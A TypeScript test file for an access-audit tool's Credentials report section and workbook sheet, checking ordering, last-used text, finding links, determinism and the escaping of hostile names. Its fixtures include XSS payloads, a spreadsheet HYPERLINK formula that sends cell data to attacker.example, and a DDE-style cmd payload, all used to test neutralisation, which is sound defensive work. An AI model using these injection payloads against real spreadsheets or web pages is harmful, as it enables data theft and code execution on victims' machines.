/**
 * The report's Credentials section (HTML) and sheet (workbook), from snapshots written through
 * the store's writer into real DuckDB files: admin keys first, then each project's keys and
 * service accounts, then pending invites, in that order; the last-used display (exact, "within
 * 30 days", never); ages counted to the snapshot's end; hostile names escaped, revealed and
 * neutralised; each credential linked to the findings about it; the one sentence for a snapshot
 * that did not collect credentials; byte-identical output; no key text beyond the redacted
 * values the views hold.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import ExcelJS from "exceljs";
import Handlebars from "handlebars";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  ADMIN_KEYS,
  type AdminKeyRow,
  API_KEYS,
  type ApiKeyRow,
  INVITES,
  type InviteRow,
  SERVICE_ACCOUNTS,
  type ServiceAccountRow,
  USAGE_RESOLUTION_DAYS,
} from "../src/facts/credentials.js";
import { GROUPS, USERS } from "../src/facts/index.js";
import { PROJECTS, type ProjectRow } from "../src/facts/projects.js";
import { revealInvisible, templateVersion } from "../src/render/index.js";
import { CREDENTIALS_NOT_COLLECTED, renderHtml } from "../src/report/html.js";
import {
  buildReportModel,
  CredentialFindings,
  lastUsedText,
  type ReportFinding,
  type ReportModel,
} from "../src/report/model.js";
import { writeWorkbook } from "../src/report/xlsx.js";
import { Store } from "../src/store/index.js";
import { hasChromium, launchChromium } from "./support/browser.js";
import { META, orgAt } from "./support/history-org.js";
import { FORMULA_START, hiddenIn, workbookTexts } from "./support/output-checks.js";
import { sheetRecords } from "./support/workbook-rows.js";

const DAY = 86_400;
/** Every time below is relative to this (the writer stamps snapshots with the clock). */
const NOW = Math.floor(Date.now() / 1000);
const ago = (days: number): number => NOW - days * DAY;

const HOSTILE = {
  script: "<script>window.__pwned=1</script>",
  formula: '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  tab: "\t=1+1",
  bidi: "Mallory\u202Egnp.exe\u202C",
  zeroWidth: "deploy\u200Bbot\uFEFF",
  svg: "<svg/onload=alert(4)>",
  plus: "+1+cmd|' /C calc'!A0",
} as const;

const project = (id: string, name: string): ProjectRow => ({
  project_id: id,
  name,
  status: "active",
  archived: false,
  created_at: ago(900),
  archived_at: null,
  external_key_id: null,
  residency: null,
});

/** Written in an order other than the report's, so the report's order is its own. */
const ADMIN: AdminKeyRow[] = [
  {
    key_id: "ak-new",
    name: "CI admin",
    redacted_value: "sk-admin-...nEw1",
    created_at: ago(10),
    expires_at: ago(-355),
    last_used_at: ago(2),
    owner_type: "user",
    owner_id: "u0",
    owner_name: "User u0",
    owner_role: "owner",
  },
  {
    key_id: "ak-old",
    name: `Break-glass ${HOSTILE.script}`,
    redacted_value: "sk-admin-...oLd2",
    created_at: ago(400),
    expires_at: null,
    last_used_at: null,
    owner_type: "user",
    owner_id: "u1",
    owner_name: HOSTILE.bidi,
    owner_role: "reader",
  },
  {
    key_id: "ak-mid",
    name: HOSTILE.formula,
    redacted_value: "sk-admin-...mId3",
    created_at: ago(200),
    expires_at: ago(-100),
    last_used_at: ago(90),
    owner_type: "user",
    owner_id: "u2",
    owner_name: "User u2",
    owner_role: "owner",
  },
];

const apiKey = (
  projectId: string,
  keyId: string,
  over: Partial<ApiKeyRow> & Pick<ApiKeyRow, "created_at" | "last_used_at">,
): ApiKeyRow => ({
  project_id: projectId,
  key_id: keyId,
  name: `key ${keyId}`,
  redacted_value: `sk-proj-...${keyId.slice(-4)}`,
  owner_type: "user",
  owner_id: "u3",
  owner_name: "Alice",
  owner_email: "alice@corp.example",
  owner_role: "owner",
  owner_project_access: "active",
  ...over,
});

const API: ApiKeyRow[] = [
  apiKey("proj-alpha", "key-a3", {
    name: `departed ${HOSTILE.zeroWidth}`,
    created_at: ago(100),
    last_used_at: ago(3),
    owner_id: "u4",
    owner_name: "Bob",
    owner_email: "bob@corp.example",
    owner_project_access: "inactive",
  }),
  apiKey("proj-alpha", "key-a1", { created_at: ago(500), last_used_at: ago(45) }),
  apiKey("proj-alpha", "key-a2", {
    created_at: ago(40),
    last_used_at: null,
    owner_type: "service_account",
    owner_id: "sa-1",
    owner_name: "deploy-bot",
    owner_email: null,
    owner_role: "member",
  }),
  apiKey("proj-hostile", "key-h1", {
    name: HOSTILE.tab,
    created_at: ago(5),
    last_used_at: ago(1),
    owner_name: HOSTILE.script,
    owner_email: HOSTILE.plus,
  }),
];

const ACCOUNTS: ServiceAccountRow[] = [
  {
    project_id: "proj-alpha",
    service_account_id: "sa-2",
    name: HOSTILE.svg,
    role: "owner",
    created_at: ago(60),
  },
  {
    project_id: "proj-alpha",
    service_account_id: "sa-1",
    name: "deploy-bot",
    role: "member",
    created_at: ago(41),
  },
];

const INVITE_ROWS: InviteRow[] = [
  {
    invite_id: "inv-3",
    email: HOSTILE.plus,
    role: "reader",
    status: "pending",
    created_at: ago(2),
    expires_at: ago(-5),
    accepted_at: null,
    projects: null,
  },
  {
    invite_id: "inv-1",
    email: "new-owner@corp.example",
    role: "owner",
    status: "pending",
    created_at: ago(20),
    expires_at: ago(-10),
    accepted_at: null,
    projects: [{ project_id: "proj-alpha", role: "owner" }],
  },
  {
    invite_id: "inv-2",
    email: "joined@corp.example",
    role: "reader",
    status: "accepted",
    created_at: ago(30),
    expires_at: null,
    accepted_at: ago(29),
    projects: [],
  },
  {
    invite_id: "inv-4",
    email: "late@corp.example",
    role: "owner",
    status: "expired",
    created_at: ago(60),
    expires_at: ago(30),
    accepted_at: null,
    projects: [],
  },
];

/** Snapshot 1, then snapshot 2 where key-a3 and ak-new were used again (1 day ago). */
async function writeCredentialDb(path: string): Promise<void> {
  const store = await Store.open(path);
  try {
    for (const step of [1, 2]) {
      const writer = await store.beginSnapshot(META);
      const org = orgAt(1);
      for (const r of org.users) writer.add(USERS, r);
      for (const r of org.groups) writer.add(GROUPS, r);
      writer.add(PROJECTS, project("proj-alpha", "Alpha"));
      writer.add(PROJECTS, project("proj-hostile", HOSTILE.formula));
      writer.add(PROJECTS, project("proj-empty", "Empty"));
      for (const k of ADMIN) {
        writer.add(
          ADMIN_KEYS,
          step === 2 && k.key_id === "ak-new" ? { ...k, last_used_at: ago(1) } : k,
        );
      }
      for (const k of API) {
        writer.add(
          API_KEYS,
          step === 2 && k.key_id === "key-a3" ? { ...k, last_used_at: ago(1) } : k,
        );
      }
      for (const a of ACCOUNTS) writer.add(SERVICE_ACCOUNTS, a);
      for (const i of INVITE_ROWS) writer.add(INVITES, i);
      await writer.publish({ requests: 10, retries: 0, rateLimited: 0 });
    }
  } finally {
    await store.close();
  }
}

async function writeUncollectedDb(path: string): Promise<void> {
  const store = await Store.open(path);
  try {
    const writer = await store.beginSnapshot({ ...META, uncollected: ["credentials"] });
    for (const r of orgAt(1).users) writer.add(USERS, r);
    writer.add(PROJECTS, project("proj-alpha", "Alpha"));
    await writer.publish({ requests: 1, retries: 0, rateLimited: 0 });
  } finally {
    await store.close();
  }
}

async function modelOf(path: string): Promise<ReportModel> {
  const store = await Store.open(path, { readOnly: true });
  try {
    return await buildReportModel(store, {
      toolVersion: "9.9.9-test",
      templateVersion: templateVersion(),
    });
  } finally {
    await store.close();
  }
}

async function workbookFile(path: string, model: ReportModel, file: string): Promise<void> {
  const store = await Store.open(path, { readOnly: true });
  try {
    await writeWorkbook(store, model, file);
  } finally {
    await store.close();
  }
}

/** Data rows as objects keyed by each column's row property (support/workbook-rows.ts). */
async function sheetRows(file: string, name: string): Promise<Record<string, ExcelJS.CellValue>[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(file);
  const sheet = book.getWorksheet(name);
  if (!sheet) throw new Error(`no sheet ${name}`);
  return sheetRecords(sheet);
}

function elementHtml(html: string, tag: string, id: string): string {
  const open = html.indexOf(` id="${id}"`);
  if (open < 0) throw new Error(`no element #${id}`);
  const from = html.lastIndexOf(`<${tag}`, open);
  const end = html.indexOf(`</${tag}>`, open);
  return html.slice(from, end + tag.length + 3);
}

/** What a value looks like in the HTML: invisible characters revealed, then HTML-escaped. */
const rendered = (value: string): string => Handlebars.escapeExpression(revealInvisible(value));
const isoDate = (unix: number): string => new Date(unix * 1000).toISOString().slice(0, 10);

const finding = (over: Partial<ReportFinding> & Pick<ReportFinding, "rule">): ReportFinding => ({
  severity: "high",
  title: `Title of ${over.rule}`,
  project_id: null,
  credential_id: null,
  group_id: null,
  user_id: null,
  role_id: null,
  detail: null,
  group_name: null,
  user: null,
  role_name: null,
  rationale: "",
  remediation: "",
  controls: [],
  is_new: true,
  tier: null,
  members: [],
  member_count: 0,
  state: "new",
  exception: null,
  ...over,
});

/** Hand-built findings about credentials, as the credential rules will raise them. */
const CREDENTIAL_FINDINGS: ReportFinding[] = [
  finding({ rule: "admin-key-without-expiry", credential_id: "ak-old" }),
  finding({ rule: "admin-key-unused", severity: "medium", credential_id: "ak-old" }),
  finding({
    rule: "project-key-owner-departed",
    credential_id: "key-a3",
    project_id: "proj-alpha",
    title: `Owner left ${HOSTILE.script}`,
  }),
  // The same id in another project is not this key's.
  finding({ rule: "project-key-unused", credential_id: "key-a3", project_id: "proj-hostile" }),
  finding({ rule: "service-account-owner-role", credential_id: "sa-2", project_id: "proj-alpha" }),
  finding({ rule: "invite-elevated-pending", severity: "medium", credential_id: "inv-1" }),
];

describe("the Credentials section and sheet", () => {
  let dir: string;
  let dbPath: string;
  let uncollectedPath: string;
  let model: ReportModel;
  /** The model with the real rules' findings, and without those about credentials. */
  let plain: ReportModel;
  let linked: ReportModel;
  let html: string;
  let linkedHtml: string;
  let xlsx: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "access-audit-credentials-report-"));
    dbPath = join(dir, "credentials.duckdb");
    uncollectedPath = join(dir, "no-credentials.duckdb");
    await writeCredentialDb(dbPath);
    await writeUncollectedDb(uncollectedPath);
    model = await modelOf(dbPath);
    plain = { ...model, findings: model.findings.filter((f) => f.credential_id === null) };
    html = renderHtml(plain);
    linked = { ...plain, findings: [...plain.findings, ...CREDENTIAL_FINDINGS] };
    linkedHtml = renderHtml(linked);
    xlsx = join(dir, "credentials.xlsx");
    await workbookFile(dbPath, linked, xlsx);
  }, 120_000);
  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it("reads admin keys, then each project's keys and service accounts, then pending invites", () => {
    const c = model.credentials;
    expect(c).toMatchObject({ collected: true, not_collected_reason: null });
    expect(c.admin_keys.map((k) => k.key_id)).toEqual(["ak-old", "ak-mid", "ak-new"]);
    // Projects by name as DuckDB orders text ("=HYPERLINK…" before "Alpha"), only those
    // holding credentials.
    expect(c.projects.map((p) => p.project_id)).toEqual(["proj-hostile", "proj-alpha"]);
    expect(c.projects[1]?.api_keys.map((k) => k.key_id)).toEqual(["key-a1", "key-a3", "key-a2"]);
    expect(c.projects[1]?.service_accounts.map((a) => a.service_account_id)).toEqual([
      "sa-2", // "<svg…" sorts before "deploy-bot"
      "sa-1",
    ]);
    expect(c.invites.map((i) => i.invite_id)).toEqual(["inv-1", "inv-3"]);
    expect(c.invites[0]?.projects).toEqual([
      { project_id: "proj-alpha", name: "Alpha", role: "owner" },
    ]);
    expect(c.invites[1]?.projects).toBeNull();
    expect(c.totals).toEqual({
      admin_keys: 3,
      api_keys: 4,
      service_accounts: 2,
      projects: 2,
      pending_invites: 2,
    });
    // Ages: whole days from creation to the snapshot's end, not the clock's.
    const end = Date.parse(model.snapshot.finished_at) / 1000;
    const age = (created: number) => Math.floor((end - created) / DAY);
    expect(c.admin_keys.map((k) => k.age_days)).toEqual([
      age(ago(400)),
      age(ago(200)),
      age(ago(10)),
    ]);
    expect(c.admin_keys.map((k) => k.age_days)).toEqual([400, 200, 10]);
    expect(c.invites[0]?.age_days).toBe(20);
  });

  it("says when a key was last used: exact, within 30 days, or never", () => {
    const c = model.credentials;
    const use = (k: { last_used_at: string | null; last_used_recent: boolean }) =>
      lastUsedText(k.last_used_at, k.last_used_recent, USAGE_RESOLUTION_DAYS);
    const [old, mid, recent] = c.admin_keys;
    expect(old && use(old)).toBe("Never");
    expect(mid && use(mid)).toBe(isoDate(ago(90)));
    // Used again 1 day ago; the store keeps the recorded use of 2 days ago (a use is not a
    // change of access): the report says only "within 30 days", from that date on.
    expect(recent?.last_used_at?.slice(0, 10)).toBe(isoDate(ago(2)));
    expect(recent && use(recent)).toBe(`Within 30 days (on or after ${isoDate(ago(2))})`);
    const alpha = c.projects[1]?.api_keys ?? [];
    expect(alpha.map((k) => [k.key_id, k.last_used_recent])).toEqual([
      ["key-a1", false],
      ["key-a3", true],
      ["key-a2", false],
    ]);
    expect(alpha.map(use)).toEqual([
      isoDate(ago(45)),
      `Within 30 days (on or after ${isoDate(ago(3))})`,
      "Never",
    ]);
    const section = elementHtml(html, "section", "credentials");
    expect(section).toContain(
      `<td class="date">Within 30 days (on or after ${isoDate(ago(3))})</td>`,
    );
    expect(section).toContain(`<td class="date" data-sort="">Never</td>`);
    expect(section).toContain("a use recorded at least 30 days before the snapshot is exact");
  });

  it("renders the section in order, with owners, expiry, ages and owner access", () => {
    const section = elementHtml(html, "section", "credentials");
    expect(html).toContain('<li><a href="#credentials">Credentials</a></li>');
    expect(section).toContain(
      "3 admin keys; 4 project API keys and 2 service accounts in 2 projects; 2 pending invites.",
    );
    const order = [
      'id="admin-keys-heading"',
      "ak-old",
      "ak-mid",
      "ak-new",
      'id="project-credentials-heading"',
      "key-h1",
      "key-a1",
      "key-a3",
      "key-a2",
      "sa-2",
      "sa-1",
      'id="invites-heading"',
      "inv-1",
      "inv-3",
    ];
    // A credential's own row starts with its name and id (an id elsewhere is an owner's).
    const at = order.map((text) =>
      text.startsWith("id=")
        ? section.indexOf(text)
        : section.search(
            new RegExp(
              `<tr[^>]*><td><span class="name">[^<]*</span> <code class="id">${text}</code>`,
            ),
          ),
    );
    expect(
      at.every((i) => i >= 0),
      JSON.stringify(at),
    ).toBe(true);
    expect([...at].sort((a, b) => a - b)).toEqual(at);
    expect(section).not.toContain("inv-2"); // accepted
    expect(section).not.toContain("inv-4"); // expired
    expect(section).not.toContain("proj-empty");
    const admin = elementHtml(html, "table", "admin-keys-table");
    expect(admin).toContain(
      `<td class="date" data-sort="">${"<strong>Never</strong>"}</td><td class="date" data-sort="">Never</td><td class="num" data-sort="400">400 days</td>`,
    );
    expect(admin).toContain(`<span class="owner-role">Reader</span>`);
    expect(section).toContain("<strong>Inactive: no longer in the project</strong>");
    expect(section).toContain("<td>Service account</td>");
    expect(section).toContain("<strong>Owner</strong>"); // sa-2's role
    expect(section).toContain("Alpha (proj-alpha): Owner");
    expect(section).toContain("<td>Not listed by the API</td>");
  });

  it("links each credential to the findings about it, and only those", () => {
    const links = new CredentialFindings(linked.findings);
    const base = plain.findings.length;
    expect(links.of("ak-old", null)).toEqual([base, base + 1]);
    expect(links.of("key-a3", "proj-alpha")).toEqual([base + 2]);
    expect(links.of("key-a3", "proj-hostile")).toEqual([base + 3]);
    expect(links.of("sa-2", "proj-alpha")).toEqual([base + 4]);
    expect(links.of("inv-1", null)).toEqual([base + 5]);
    expect(links.of("ak-mid", null)).toEqual([]);
    // A finding without a credential links nothing.
    expect(new CredentialFindings([finding({ rule: "x" })]).of("x", null)).toEqual([]);

    const section = elementHtml(linkedHtml, "section", "credentials");
    const n = (i: number) => `#finding-${base + i + 1}`;
    const admin = elementHtml(linkedHtml, "table", "admin-keys-table");
    const oldRow = admin.slice(
      admin.indexOf("ak-old"),
      admin.indexOf("</tr>", admin.indexOf("ak-old")),
    );
    expect(oldRow).toContain(
      `<a href="${n(0)}"><span class="badge sev-high">High</span> Title of admin-key-without-expiry</a>`,
    );
    expect(oldRow).toContain(`<a href="${n(1)}">`);
    // Every link lands on a row of the Findings table with that id, of that rule.
    for (let i = 0; i < CREDENTIAL_FINDINGS.length; i++) {
      const row = elementHtml(linkedHtml, "tr", n(i).slice(1));
      expect(row).toContain(`href="#rule-${CREDENTIAL_FINDINGS[i]?.rule}"`);
    }
    expect(section).toContain(rendered(`Owner left ${HOSTILE.script}`));
    // key-a3 of Alpha links only its own finding; key-h1 none.
    expect(section.match(new RegExp(n(2), "g"))).toHaveLength(1);
    expect(section).not.toContain(`href="${n(3)}"`);
    expect(section).toContain(`href="${n(4)}"`);
    expect(section).toContain(`href="${n(5)}"`);
    expect(section).toContain("5 findings are about one of them.");
    // Without findings, every row says none.
    const none = elementHtml(html, "section", "credentials");
    expect(none).not.toContain('href="#finding-');
    // End to end: the real credential rules' findings link to their credentials.
    const real = new CredentialFindings(model.findings);
    const rulesOf = (id: string, project: string | null) =>
      real.of(id, project).map((i) => model.findings[i]?.rule);
    expect(rulesOf("ak-old", null)).toEqual(
      expect.arrayContaining(["admin-key-unused", "admin-key-without-expiry"]),
    );
    expect(rulesOf("key-a3", "proj-alpha")).toContain("project-key-owner-departed");
    expect(rulesOf("ak-new", null)).not.toContain("admin-key-unused");
    const realHtml = elementHtml(renderHtml(model), "table", "admin-keys-table");
    expect(realHtml).toContain("Admin API key unused for a long time, or never used");
  });

  it("writes the Credentials sheet: one row per credential, kinds in the section's order", async () => {
    const rows = await sheetRows(xlsx, "Credentials");
    expect(rows.map((r) => [r.kind, r.credential_id])).toEqual([
      ["admin key", "ak-old"],
      ["admin key", "ak-mid"],
      ["admin key", "ak-new"],
      ["project key", "key-h1"],
      ["project key", "key-a1"],
      ["project key", "key-a3"],
      ["project key", "key-a2"],
      ["service account", "sa-2"],
      ["service account", "sa-1"],
      ["invite", "inv-1"],
      ["invite", "inv-3"],
    ]);
    const byId = new Map(rows.map((r) => [r.credential_id, r]));
    expect(byId.get("ak-old")).toMatchObject({
      expires_at: null,
      last_used_at: null,
      last_used: "Never",
      age_days: 400,
      findings:
        "2 high admin-key-without-expiry: Title of admin-key-without-expiry; 3 medium admin-key-unused: Title of admin-key-unused",
    });
    expect(byId.get("ak-old")?.created_at).toBeInstanceOf(Date);
    expect(byId.get("ak-mid")?.expires_at).toBeInstanceOf(Date);
    expect(byId.get("key-a3")).toMatchObject({
      project_id: "proj-alpha",
      project_name: "Alpha",
      owner_project_access: "inactive",
      last_used: `Within 30 days (on or after ${isoDate(ago(3))})`,
      findings: `2 high project-key-owner-departed: Owner left ${HOSTILE.script}`,
    });
    expect(byId.get("key-h1")?.findings).toBeNull();
    expect(byId.get("inv-1")).toMatchObject({
      name: "new-owner@corp.example",
      projects: "Alpha (proj-alpha): owner",
    });
    const summary = await sheetRows(xlsx, "Summary");
    expect(summary.find((r) => r.section === "Credentials" && r.item === "Admin keys")?.value).toBe(
      3,
    );
    const findings = await sheetRows(xlsx, "Findings");
    expect(findings.filter((f) => f.credential_id === "ak-old")).toHaveLength(2);
  });

  it("escapes, reveals and neutralises hostile names", async () => {
    const section = elementHtml(html, "section", "credentials");
    for (const name of Object.values(HOSTILE)) expect(section).toContain(rendered(name));
    for (const raw of ["<script", "<svg", "\u202E", "\u200B", "\uFEFF"]) {
      expect(section).not.toContain(raw);
    }
    expect(hiddenIn(section)).toEqual([]);
    const rows = await sheetRows(xlsx, "Credentials");
    const texts = rows.flatMap((r) => Object.values(r).filter((v) => typeof v === "string"));
    expect(texts.length).toBeGreaterThan(50);
    for (const text of texts as string[]) {
      expect(text).not.toMatch(FORMULA_START);
      expect(hiddenIn(text)).toEqual([]);
    }
    const byId = new Map(rows.map((r) => [r.credential_id, r]));
    expect(byId.get("ak-mid")?.name).toBe(`'${HOSTILE.formula}`);
    expect(byId.get("key-h1")?.name).toBe("[U+0009]=1+1");
    expect(byId.get("ak-old")?.owner).toBe("Mallory[U+202E]gnp.exe[U+202C]");
    for (const text of await workbookTexts(xlsx)) {
      expect(text, text.slice(0, 40)).not.toMatch(FORMULA_START);
    }
  });

  it("shows no key text beyond the redacted values the views hold", async () => {
    const store = await Store.open(dbPath, { readOnly: true });
    let held: Set<string>;
    let crawlKeys: Set<string>;
    try {
      const rows = await store.query<{ v: string }>(
        `SELECT redacted_value AS v FROM snapshot_admin_keys
         UNION SELECT redacted_value FROM snapshot_api_keys`,
      );
      held = new Set(rows.map((r) => r.v));
      // The evidence header names the crawl's own credential, in the redacted form stored with it.
      const runs = await store.query<{ v: string }>("SELECT key_redacted AS v FROM snapshots");
      crawlKeys = new Set(runs.map((r) => r.v));
    } finally {
      await store.close();
    }
    expect(held.size).toBe(7);
    const keyish = /sk-[A-Za-z0-9_-]*(?:\.\.\.)?[A-Za-z0-9_-]*/g;
    const texts = [linkedHtml, ...(await workbookTexts(xlsx))];
    const found = new Set(texts.flatMap((t) => t.match(keyish) ?? []));
    expect([...found].filter((k) => !held.has(k) && !crawlKeys.has(k))).toEqual([]);
    expect([...held].filter((k) => !found.has(k))).toEqual([]);
  });

  it("is deterministic: the same snapshot gives byte-identical HTML and workbook", async () => {
    const full = renderHtml(model);
    expect(renderHtml(await modelOf(dbPath))).toBe(full);
    expect(renderHtml(plain)).toBe(html);
    const again = join(dir, "again.xlsx");
    await workbookFile(dbPath, linked, again);
    expect(readFileSync(again).equals(readFileSync(xlsx))).toBe(true);
  });

  it("says only that credentials were not collected, never that there are none", async () => {
    const without = await modelOf(uncollectedPath);
    expect(without.credentials).toMatchObject({
      collected: false,
      not_collected_reason: "option",
      admin_keys: [],
    });
    const text = renderHtml(without);
    expect(elementHtml(text, "section", "credentials")).toBe(
      '<section id="credentials" class="report-section" aria-labelledby="credentials-heading">\n' +
        '<h2 id="credentials-heading">Credentials</h2>\n' +
        `<p>${CREDENTIALS_NOT_COLLECTED}</p>\n` +
        "</section>",
    );
    const file = join(dir, "no-credentials.xlsx");
    await workbookFile(uncollectedPath, without, file);
    expect(await sheetRows(file, "Credentials")).toEqual([]);
    const summary = (await sheetRows(file, "Summary")).find((r) => r.section === "Credentials");
    expect(summary).toMatchObject({ item: "Collected", value: "no" });
  });

  it.skipIf(!hasChromium)(
    "turns the Findings table to the page of a credential's linked finding",
    async () => {
      const browser = await launchChromium();
      try {
        const path = join(dir, "credentials.html");
        writeFileSync(path, renderHtml(linked, { pageSize: 2 }));
        const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
        const problems: string[] = [];
        page.on("pageerror", (error) => problems.push(error.message));
        await page.goto(pathToFileURL(path).href, { waitUntil: "load" });
        const last = `#finding-${linked.findings.length}`;
        // The page script reacts to events: wait for the state (isVisible does not wait).
        const row = page.locator(last);
        await row.waitFor({ state: "hidden", timeout: 10_000 });
        await page.locator(`#credentials a[href="${last}"]`).click();
        await row.waitFor({ state: "visible", timeout: 10_000 });
        // Through a filter that hides it, too.
        await page.locator("#findings-filter").fill("no such finding");
        await row.waitFor({ state: "hidden", timeout: 10_000 });
        await page.evaluate("window.location.hash = ''");
        await page.locator(`#credentials a[href="${last}"]`).click();
        await row.waitFor({ state: "visible", timeout: 10_000 });
        expect(problems).toEqual([]);
      } finally {
        await browser.close();
      }
    },
    60_000,
  );
});
